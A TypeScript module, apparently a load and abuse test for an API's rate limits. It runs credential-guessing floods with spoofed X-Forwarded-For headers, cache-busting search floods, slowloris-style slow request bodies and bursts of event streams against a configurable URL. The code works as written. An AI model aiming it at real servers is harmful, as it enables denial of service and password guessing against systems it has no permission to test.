import { randomInt } from 'node:crypto'
import { connect, type Socket } from 'node:net'

export type Target = { url: string; tokens: readonly string[] }
/** Results so far, by status; `cut` are requests without an answer. */
export type Counts = Record<string, number>

/** The intensity: one person with a few machines, above what the limits admit. */
const LOGINS_PER_SECOND = 200
const SEARCHES_PER_SECOND = 100
const SLOW_BODIES = 400
const STREAMS_PER_SECOND = 50
const STREAM_MS = 5_000
const UNDER_WAY_MAX = 300

/** Starts all attacks, which run until the process ends; returns a function that reads their progress. */
export function startAttacks(target: Target): () => Record<string, Counts> {
  const counts: Record<string, Counts> = { logins: {}, searches: {}, bodies: {}, streams: {} }
  const note = (attack: string) => (status: number | 'cut') => {
    const own = (counts[attack] ??= {})
    own[status] = (own[status] ?? 0) + 1
  }
  floodLogins(target, note('logins'))
  floodSearches(target, note('searches'))
  for (let n = 0; n < SLOW_BODIES; n += 1) sendSlowly(target, n, note('bodies'))
  burstStreams(target, note('streams'))
  return () => counts
}

type Note = (status: number | 'cut') => void

/** Half of the attempts from one address, half from many; half at one account, half at any. */
function floodLogins({ url }: Target, note: Note): void {
  repeat(LOGINS_PER_SECOND, note, (signal) => {
    const from = randomInt(2) === 0 ? '192.0.2.7' : `198.51.${randomInt(256)}.${randomInt(256)}`
    const email = randomInt(2) === 0 ? 'customer1@example.com' : `customer${randomInt(5_000)}@example.com`
    return fetch(`${url}/api/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-forwarded-for': from },
      body: JSON.stringify({ email, password: `guess-${randomInt(1_000_000)}` }),
      signal,
    })
  })
}

/** Words with many hits, varied slightly, so that nothing is cached. */
function floodSearches({ url }: Target, note: Note): void {
  repeat(SEARCHES_PER_SECOND, note, (signal) => {
    const word = ['follow', 'real fast', 'e', 'a 1', 'x'.repeat(100)][randomInt(5)] ?? ''
    return fetch(`${url}/api/services?search=${encodeURIComponent(`${word}${randomInt(100)}`)}`, {
      headers: { 'x-forwarded-for': `203.0.113.${randomInt(256)}` },
      signal,
    })
  })
}

/** A connection that announces a long body and sends one byte a second. It reconnects when it is cut. */
function sendSlowly(target: Target, at: number, note: Note): void {
  const { url, tokens } = target
  const { hostname, port } = new URL(url)
  const path = at % 2 === 0 ? '/api/auth/login' : '/api/orders/create'
  const socket: Socket = connect(Number(port), hostname)
  socket.on('error', () => undefined)
  socket.write(
    `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 8000\r\n` +
      `authorization: Bearer ${tokens[at % tokens.length]}\r\nx-forwarded-for: 198.18.0.${at % 250}\r\n\r\n{`,
  )
  const timer = setInterval(() => socket.write(' '), 1_000)
  let status: number | 'cut' = 'cut'
  socket.on('data', (chunk: Buffer) => {
    status = Number(/^HTTP\/1\.1 (\d+)/.exec(chunk.toString('latin1'))?.[1] ?? 0)
  })
  socket.on('close', () => {
    clearInterval(timer)
    note(status)
    setTimeout(() => sendSlowly(target, at, note), 1_000)
  })
}

/** Streams of a few customers, opened in bursts and closed again. */
function burstStreams({ url, tokens }: Target, note: Note): void {
  repeat(STREAMS_PER_SECOND, note, async (signal) => {
    const token = tokens[randomInt(5)]
    const left = AbortSignal.any([signal, AbortSignal.timeout(STREAM_MS)])
    const headers = { authorization: `Bearer ${token}` }
    const answer = await fetch(`${url}/api/events`, { headers, signal: left })
    // Closing aborts it: only the opening counts.
    await answer.arrayBuffer().catch(() => undefined)
    return new Response(null, { status: answer.status })
  })
}

/** A fixed rate, whether or not requests are answered; at most as many concurrent ones as an attacker's machine handles. */
function repeat(perSecond: number, note: Note, send: (signal: AbortSignal) => Promise<Response>): void {
  let underWay = 0
  setInterval(() => {
    for (let n = 0; n < perSecond / 10 && underWay < UNDER_WAY_MAX; n += 1) {
      underWay += 1
      void send(AbortSignal.timeout(30_000))
        .then((answer) => answer.arrayBuffer().then(() => note(answer.status)))
        .catch(() => note('cut'))
        .finally(() => (underWay -= 1))
    }
  }, 100)
}
